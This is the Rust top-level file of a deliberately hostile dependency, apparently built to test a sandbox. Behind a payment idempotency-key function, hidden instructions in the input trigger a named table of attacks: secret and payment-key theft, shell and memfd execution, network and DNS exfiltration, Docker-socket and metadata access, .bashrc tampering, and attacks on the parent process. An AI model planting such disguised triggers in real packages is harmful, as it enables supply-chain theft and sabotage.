//! The hostile dependency. It does what its documentation says ([`idempotency_key`]), and where
//! the input carries the right words it does what malicious packages did as well: the attempts
//! stand in rooms by what they are after. It is the attacker of the ambush and nothing else;
//! whether an attempt succeeded is judged by the ambush from outside, never by what is said here.
//!
//! Everything here is real: nothing is simulated, nothing is harmless by construction. It is the
//! ambush that runs it where it can do no harm. Without an instruction in the input it is quiet,
//! as such packages are.

mod files;
mod instruction;
mod kernel;
mod logs;
mod memory;
mod names;
mod network;
mod parent;
mod programs;
mod raw;
mod ring;
mod secrets;

use instruction::{Instruction, Outcome, perform};
use std::fmt;

/// What every attempt is: it gets its instruction and tries.
type Attempt = fn(&Instruction) -> std::io::Result<Outcome>;

/// Every attempt by its name. The ambush's own table says what each one is and how it is judged.
const ATTEMPTS: &[(&str, Attempt)] = &[
    // Secrets where they lie.
    ("env-std", secrets::std_env),
    ("env-getenv", secrets::getenv),
    ("env-proc-self", secrets::proc_self_environ),
    ("env-stack", secrets::initial_stack),
    ("env-memory-scan", secrets::whole_memory),
    ("env-parent", secrets::parent_environ),
    ("dotenv", secrets::dotenv),
    // Programs.
    ("sh-c", programs::shell),
    ("raw-execve", programs::raw_execve),
    ("memfd-exec", programs::memfd_exec),
    ("dropped-binary", programs::dropped_binary),
    ("loader-exec", programs::loader),
    ("fork-daemon", programs::daemon),
    // The network.
    ("tcp", network::tcp),
    ("tcp-v6", network::tcp),
    ("tcp-v4-mapped", network::tcp_mapped),
    ("tcp-fastopen", network::fast_open),
    ("tcp-zero-address", network::tcp),
    ("mptcp", network::multipath),
    ("udp-sendto", network::udp_sendto),
    ("udp-connected", network::udp_connected),
    ("udp-sendmsg", network::udp_sendmsg),
    ("udp-sendmmsg", network::udp_sendmmsg),
    ("udp-af-unspec", network::udp_unspecified_family),
    ("udp-v4-on-v6", network::udp_v4_on_v6),
    ("metadata-service", network::metadata_service),
    ("doh", network::dns_over_http),
    ("bind-backdoor", network::bind_backdoor),
    ("listen-unbound", network::listen_unbound),
    ("unix-docker-sock", network::docker_socket),
    ("unix-abstract", network::abstract_socket),
    ("ping-socket", network::ping),
    ("netlink", network::netlink),
    ("vsock", network::vsock),
    ("io-uring", ring::connect_and_send),
    // Names.
    ("dns-getaddrinfo", names::lookup),
    ("dns-raw-udp", names::raw_udp),
    ("dns-raw-tcp", names::raw_tcp),
    ("dns-own-server", names::raw_udp),
    // Files.
    ("own-code", files::own_code),
    ("bashrc", files::append_bashrc),
    ("chmod", files::chmod),
    ("rename-out", files::rename_out),
    ("wipe", files::wipe),
    // Executable memory.
    ("mmap-rwx", memory::mmap_rwx),
    ("mprotect-exec", memory::mprotect_exec),
    ("memfd-map-exec", memory::memfd_map),
    ("personality", memory::read_implies_exec),
    // The parent.
    ("ptrace-parent", parent::ptrace),
    ("vm-readv-parent", parent::vm_readv),
    ("mem-parent", parent::proc_mem),
    ("pidfd-getfd", parent::steal_descriptor),
    ("stderr-parent", parent::write_its_stderr),
    ("sigstop-parent", parent::stop),
    ("sigkill-parent", parent::kill),
    ("sigio-courier", parent::sigio),
    ("prlimit-parent", parent::limit),
    ("sched-parent", parent::idle),
    ("affinity-parent", parent::pin),
    // The kernel's surface.
    ("userns", kernel::user_namespace),
    ("perf-event", kernel::perf_event),
    ("userfaultfd", kernel::userfaultfd),
    ("keyctl", kernel::add_key),
    ("own-seccomp", kernel::own_filter),
    ("tiocsti", kernel::type_into_terminal),
    // Logs and answers.
    ("print-raw", logs::raw),
    ("print-stderr", logs::raw_on_stderr),
    ("print-base64", logs::base64),
    ("print-hex", logs::hex),
    ("print-split", logs::split),
    ("print-tty", logs::terminal),
    ("log-reopen", logs::read_back),
    ("forged-record", logs::forged_record),
    ("panic-key", logs::panic),
    ("error-key", logs::error),
];

/// The names of all attempts.
pub fn attempts() -> impl Iterator<Item = &'static str> {
    ATTEMPTS.iter().map(|(name, _)| *name)
}

/// Why no key could be derived. Its text holds the payment key, which is one of the attempts.
#[derive(Debug)]
pub struct KeyError(String);

impl fmt::Display for KeyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for KeyError {}

/// Derives the idempotency key of an order: the same for the same order and payment key, so that
/// a charge that is sent twice is made once.
///
/// # Errors
/// So says the signature. In truth: when told to.
///
/// # Panics
/// When told to.
pub fn idempotency_key(order: &str, note: &str, payment_key: &str) -> Result<String, KeyError> {
    for instruction in instruction::hidden_in(note, payment_key) {
        let attempt = ATTEMPTS.iter().find(|(name, _)| *name == instruction.attempt);
        let Some((_, attempt)) = attempt else { continue };
        match perform(&instruction, *attempt) {
            Some(Outcome::Panic(text)) => panic!("{text}"),
            Some(Outcome::Error(text)) => return Err(KeyError(text)),
            _ => {}
        }
    }
    // FNV-1a; not what a payment host should get, but what such a package would use.
    let mut hash = 0xcbf2_9ce4_8422_2325_u64;
    for byte in order.bytes().chain(payment_key.bytes()) {
        hash = (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
    }
    Ok(format!("{order}-{hash:016x}"))
}
